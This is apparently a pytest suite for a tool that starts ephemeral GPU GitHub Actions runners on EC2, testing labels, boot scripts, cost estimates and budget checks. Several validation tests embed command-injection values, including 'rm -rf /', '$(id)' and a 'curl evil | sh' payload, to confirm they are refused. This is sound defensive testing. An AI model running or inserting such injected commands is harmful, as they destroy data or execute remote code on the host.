"""GPU runners without services: labels, candidates, user data, CML argv, cost and budget."""

from __future__ import annotations

import base64
import json
import subprocess
import sys
from datetime import date
from pathlib import Path

import pytest

from modelops.cli import main
from modelops.errors import InputError, ServiceError
from modelops.runners.cost import cost_estimate, load_prices, worst_case_cost
from modelops.runners.ec2 import RunContext, StartOptions, make_label
from modelops.runners.userdata import render_user_data

REPO_ROOT = Path(__file__).resolve().parents[2]
CTX = RunContext(repository="acme/models", run_id="77", run_attempt="2", job="train-gpu")
JIT = base64.b64encode(b"single-use runner config").decode()


@pytest.fixture(autouse=True)
def _no_github(monkeypatch: pytest.MonkeyPatch) -> None:
    """No test here may reach a real GitHub or AWS: point both at a closed port."""
    monkeypatch.setenv("GITHUB_API_URL", "http://127.0.0.1:9")
    monkeypatch.setenv("AWS_ENDPOINT_URL", "http://127.0.0.1:9")
    for var in ("GITHUB_TOKEN", "GITHUB_REPOSITORY", "GITHUB_RUN_ID", "MODELOPS_GPU_PRICES"):
        monkeypatch.delenv(var, raising=False)


def test_label_is_unique_and_names_the_run() -> None:
    """Labels carry run, attempt and job, and differ between two starts of the same job."""
    first, second = make_label(CTX), make_label(CTX)
    assert first.startswith("modelops-77-2-train-gpu-")
    assert first != second


def test_candidates_try_spot_types_by_subnet_then_on_demand() -> None:
    """Spot over types × subnets in order comes first, on-demand after when fallback is on."""
    options = StartOptions(
        context=CTX,
        launch_template="modelops-gpu",
        instance_types=("g5.xlarge", "g4dn.xlarge"),
        subnet_ids=("subnet-0a", "subnet-0b"),
    )
    order = [(c.instance_type, c.subnet_id, c.spot) for c in options.candidates()]
    assert order[:4] == [
        ("g5.xlarge", "subnet-0a", True),
        ("g5.xlarge", "subnet-0b", True),
        ("g4dn.xlarge", "subnet-0a", True),
        ("g4dn.xlarge", "subnet-0b", True),
    ]
    assert [spot for *_, spot in order[4:]] == [False] * 4
    no_fallback = StartOptions(
        context=CTX, launch_template="lt-0abc", instance_types=("g5.xlarge",),
        on_demand_fallback=False,
    )  # fmt: skip
    assert [(c.subnet_id, c.spot) for c in no_fallback.candidates()] == [(None, True)]


@pytest.mark.parametrize(
    ("kwargs", "field"),
    [
        ({"instance_types": ("g5.xlarge; rm -rf /",)}, "--instance-types"),
        ({"subnet_ids": ("subnet-$(id)",)}, "--subnet-ids"),
        ({"max_minutes": 0}, "--max-minutes"),
        ({"launch_template": "a b"}, "--launch-template"),
    ],
)
def test_start_options_refuse_bad_values(kwargs: dict[str, object], field: str) -> None:
    """Malformed instance types, subnets, lifetimes or templates are refused by field."""
    base: dict[str, object] = {
        "context": CTX, "launch_template": "modelops-gpu", "instance_types": ("g5.xlarge",),
    }  # fmt: skip
    with pytest.raises(InputError) as err:
        StartOptions(**{**base, **kwargs})  # type: ignore[arg-type]
    assert err.value.field == field


def test_user_data_arms_the_timer_before_anything_else() -> None:
    """The first command is the hard shutdown; the JIT config is passed to run.sh."""
    script = render_user_data(jitconfig=JIT, max_minutes=45)
    commands = [ln for ln in script.splitlines() if ln and not ln.startswith("#")]
    assert commands[0] == "shutdown -h +45"
    assert commands[1] == "trap 'shutdown -h now' EXIT"
    assert f"JITCONFIG={JIT}" in commands
    assert "./run.sh --jitconfig" in commands[-1]


def test_user_data_tells_the_job_its_instance_type() -> None:
    """The boot script writes the instance type, market and region into the runner's .env."""
    script = render_user_data(jitconfig=JIT, max_minutes=45)
    env_line = next(ln for ln in script.splitlines() if "MODELOPS_INSTANCE_TYPE=" in ln)
    assert "instance-type" in env_line and "instance-life-cycle" in env_line
    assert "MODELOPS_INSTANCE_REGION=" in env_line and "placement/region" in env_line
    assert env_line.endswith('>> "$RUNNER_DIR/.env"')
    assert script.index("MODELOPS_INSTANCE_TYPE") < script.index("./run.sh")


def test_user_data_verifies_a_downloaded_runner() -> None:
    """A runner downloaded at boot is checked against its sha256 before it is unpacked."""
    digest = "a" * 64
    script = render_user_data(
        jitconfig=JIT, max_minutes=5, runner_url="https://example.test/r.tgz", runner_sha256=digest
    )
    assert script.index("sha256sum -c") < script.index("tar -xzf")
    with pytest.raises(InputError):
        render_user_data(jitconfig=JIT, max_minutes=5, runner_url="https://example.test/r.tgz")


def test_user_data_refuses_a_config_that_is_not_base64() -> None:
    """A JIT config with shell syntax in it is never embedded in the script."""
    with pytest.raises(ServiceError):
        render_user_data(jitconfig="abc'; curl evil | sh; '", max_minutes=5)


def test_cost_is_price_times_runtime() -> None:
    """The estimate is the region's hourly price for the market times the billed seconds."""
    table = json.loads((REPO_ROOT / "src/modelops/runners/prices.json").read_text())
    row = table["regions"]["us-east-1"]
    spot = cost_estimate("g5.xlarge", 1800, spot=True, region="us-east-1")
    assert spot["cost_usd"] == round(row["spot"]["g5.xlarge"] / 2, 4)
    assert spot["estimate"] is True and spot["prices_as_of"] == table["as_of"]
    on_demand = cost_estimate("g5.xlarge", 7200, spot=False, region="us-east-1")
    assert on_demand["cost_usd"] == round(row["on_demand"]["g5.xlarge"] * 2, 4)
    assert cost_estimate("g5.xlarge", 10, spot=False)["billed_seconds"] == 60.0, "60 s minimum"
    assert cost_estimate("g5.xlarge", 60.2, spot=False)["billed_seconds"] == 61.0, "per second"


def _two_region_table(path: Path, **changes: object) -> Path:
    doc: dict[str, object] = {
        "as_of": "2026-01-15",
        "source": "test table",
        "currency": "USD",
        "regions": {
            "us-east-1": {"on_demand": {"x1.big": 6.0}, "spot": {"x1.big": 3.0}},
            "eu-west-1": {"on_demand": {"x1.big": 7.2}, "spot": {}},
        },
        **changes,
    }
    path.write_text(json.dumps(doc))
    return path


def test_prices_by_region_and_market(tmp_path: Path) -> None:
    """A price is looked up by region and market; a missing one names its field."""
    table = load_prices(_two_region_table(tmp_path / "p.json"))
    assert table.hourly("x1.big", region="eu-west-1", spot=False) == 7.2
    assert table.hourly("x1.big", region="us-east-1", spot=True) == 3.0
    with pytest.raises(InputError) as missing:
        table.hourly("x1.big", region="eu-west-1", spot=True)
    assert missing.value.field == "regions.eu-west-1.spot.x1.big"
    with pytest.raises(InputError) as region:
        table.hourly("x1.big", region="ap-south-1", spot=False)
    assert region.value.field == "regions.ap-south-1"
    assert table.default_region() is None, "two regions: a caller must name one"


def test_price_table_age_is_shown_from_its_as_of(tmp_path: Path) -> None:
    """The table's age is counted in days from its as_of date."""
    table = load_prices(_two_region_table(tmp_path / "p.json"))
    assert table.age_text(date(2026, 1, 15)) == "prices as of 2026-01-15, 0 days old"
    assert table.age_text(date(2026, 3, 1)) == "prices as of 2026-01-15, 45 days old"


def test_price_table_override_and_errors(tmp_path: Path, monkeypatch, capsys) -> None:
    """MODELOPS_GPU_PRICES replaces the table; a bad field is named by file and field, exit 2."""
    prices = _two_region_table(tmp_path / "prices.json")
    monkeypatch.setenv("MODELOPS_GPU_PRICES", str(prices))
    argv = ["runners", "cost", "--instance-type", "x1.big", "--minutes", "30"]
    assert main([*argv, "--aws-region", "us-east-1", "--spot"]) == 0
    out = capsys.readouterr().out
    assert "$1.5000" in out and "estimate" in out and "prices as of 2026-01-15" in out
    assert main([*argv, "--aws-region", "eu-west-1"]) == 0
    assert "$3.6000" in capsys.readouterr().out
    bad_cases = {
        "regions.us-east-1.on_demand.x1.big": {
            "regions": {"us-east-1": {"on_demand": {"x1.big": "cheap"}, "spot": {}}}
        },
        "as_of": {"as_of": "2026-02-30"},
        "regions.us-east-1.spot": {"regions": {"us-east-1": {"on_demand": {}}}},
        "instances": {"instances": {"x1.big": {"on_demand": 1, "spot": 1}}},
    }
    for field, change in bad_cases.items():
        _two_region_table(prices, **change)
        assert main([*argv, "--aws-region", "us-east-1"]) == 2, field
        err = capsys.readouterr().err
        assert str(prices) in err and field in err, err
        assert "Traceback" not in err


def test_region_is_required_when_the_table_has_several(tmp_path: Path, monkeypatch, capsys):
    """Without --aws-region or AWS_REGION, a table of several regions cannot be guessed."""
    monkeypatch.setenv("MODELOPS_GPU_PRICES", str(_two_region_table(tmp_path / "p.json")))
    monkeypatch.delenv("AWS_REGION", raising=False)
    monkeypatch.delenv("AWS_DEFAULT_REGION", raising=False)
    assert main(["runners", "cost", "--instance-type", "x1.big", "--minutes", "3"]) == 2
    assert "--aws-region" in capsys.readouterr().err


def test_worst_case_includes_on_demand_fallback() -> None:
    """With fallback allowed, the worst case is the dearest type at on-demand prices."""
    prices = load_prices()
    worst = worst_case_cost(["g4dn.xlarge", "g5.xlarge"], 60, spot=True, on_demand_fallback=True)
    assert worst["instance_type"] == "g5.xlarge" and worst["market"] == "on-demand"
    expected = prices.hourly("g5.xlarge", region="us-east-1", spot=False)
    assert worst["cost_usd"] == round(expected, 4)
    spot_only = worst_case_cost(["g5.xlarge"], 60, spot=True, on_demand_fallback=False)
    assert spot_only["market"] == "spot"


def _project_with_budget(tmp_path: Path, compute: str) -> Path:
    (tmp_path / "pipelines").mkdir()
    # The sample project's spec (tests/fixtures/sample), not the repository's own pipelines/.
    spec = (REPO_ROOT / "tests" / "fixtures" / "sample" / "pipelines" / "digits.yaml").read_text()
    start = spec.index("  compute:")
    end = spec.index("\n\n", start)
    (tmp_path / "pipelines" / "digits.yaml").write_text(spec[:start] + compute + spec[end:])
    return tmp_path


START = ["runners", "start", "--repository", "acme/models", "--run-id", "1",
         "--launch-template", "modelops-gpu", "--model", "digits"]  # fmt: skip


def test_start_refuses_more_minutes_than_the_budget(tmp_path, monkeypatch, capsys) -> None:
    """`start --max-minutes` above train.compute.max_minutes is refused before any call."""
    monkeypatch.chdir(_project_with_budget(
        tmp_path, "  compute:\n    type: gpu\n    instance_types: [g5.xlarge]\n    max_minutes: 30"
    ))  # fmt: skip
    monkeypatch.setenv("GITHUB_TOKEN", "ghs_secret")
    assert main([*START, "--max-minutes", "31"]) == 2
    err = capsys.readouterr().err
    assert "pipelines/digits.yaml" in err and "train.compute.max_minutes" in err
    assert "exceeds the run's budget of 30 minutes" in err


def test_start_refuses_a_run_that_could_exceed_max_cost(tmp_path, monkeypatch, capsys) -> None:
    """A worst case (dearest type, on-demand, full lifetime) over max_cost_usd is refused."""
    monkeypatch.chdir(_project_with_budget(
        tmp_path,
        "  compute:\n    type: gpu\n    instance_types: [g5.xlarge]\n    max_minutes: 120\n"
        "    max_cost_usd: 1.0",
    ))  # fmt: skip
    assert main(START) == 2
    err = capsys.readouterr().err
    assert "train.compute.max_cost_usd" in err and "g5.xlarge on-demand for 120 min" in err


def test_start_without_token_is_a_clear_error(capsys) -> None:
    """Without GITHUB_TOKEN start stops at once with a hint about App tokens, exit 2."""
    code = main(["runners", "start", "--repository", "acme/models", "--run-id", "1",
                 "--launch-template", "modelops-gpu", "--instance-types", "g5.xlarge"])  # fmt: skip
    err = capsys.readouterr().err
    assert code == 2 and "GITHUB_TOKEN" in err and "App" in err


@pytest.mark.parametrize(
    "argv",
    [
        ["runners", "stop"],
        ["runners", "stop", "--repository", "acme/models", "--run-id", "abc"],
        ["runners", "start", "--launch-template", "x"],
        ["runners", "cost", "--instance-type", "g5.xlarge", "--minutes", "1", "--spot", "maybe"],
    ],
)
def test_bad_runner_arguments_exit_2(argv: list[str], capsys) -> None:
    """Missing run context or malformed flags end with one error line and exit 2."""
    assert main(argv) == 2
    err = capsys.readouterr().err
    assert err.startswith("error: ") and "Traceback" not in err


def test_the_cml_runner_provider_is_gone(capsys: pytest.CaptureFixture[str]) -> None:
    """`runners cml-command` no longer exists: CML only posts reports (issue 10)."""
    assert main(["runners", "cml-command", "--help"]) == 2
    assert "invalid choice: 'cml-command'" in capsys.readouterr().err


@pytest.mark.parametrize("action", ["start", "stop", "janitor", "cost"])
def test_every_runner_action_has_help(action: str) -> None:
    """Each action documents itself with --help and loads no boto3 to do so."""
    code = (
        "import sys\nfrom modelops.cli import main\n"
        f"try:\n    main(['runners', '{action}', '--help'])\nexcept SystemExit as e:\n"
        "    assert e.code == 0\n"
        "print('boto3' in sys.modules)\n"
    )
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert "usage: modelops runners" in out.stdout
    assert out.stdout.strip().splitlines()[-1] == "False"


def test_runner_github_client_checks_its_input_before_any_call() -> None:
    """A bad repository, a label count GitHub refuses or a non-numeric run id never reach GitHub."""
    from modelops.runners.github import GitHub, JitConfig

    with pytest.raises(InputError) as err:
        GitHub("acme/models/extra", "ghs_secret")
    assert err.value.field == "--repository"
    client = GitHub("acme/models", "ghs_secret")  # GITHUB_API_URL: a closed port
    with pytest.raises(InputError) as err:
        client.generate_jitconfig("modelops-1-1-train-x", [f"l{i}" for i in range(101)])
    assert err.value.field == "--labels"
    with pytest.raises(ServiceError, match="not a number"):
        client.run_status("1/../../x")
    assert "s3cr3t" not in repr(JitConfig(runner_id=1, name="r", encoded="s3cr3t"))


def test_unreachable_github_is_a_service_error_without_the_token() -> None:
    """A network failure is exit 4 with a hint about GITHUB_API_URL, and the token is not shown."""
    from modelops.runners.github import GitHub

    with pytest.raises(ServiceError) as err:
        GitHub("acme/models", "ghs_secret").list_runners()
    assert "cannot reach GitHub" in err.value.message and "GITHUB_API_URL" in str(err.value.hint)
    assert "ghs_secret" not in f"{err.value} {err.value.hint}"


def test_runner_github_client_loads_githubkit_only_when_it_calls() -> None:
    """Importing the runners' GitHub client does not import githubkit (a lazy import)."""
    code = "import sys, modelops.runners.github\nprint('githubkit' in sys.modules)"
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert out.stdout.strip() == "False"
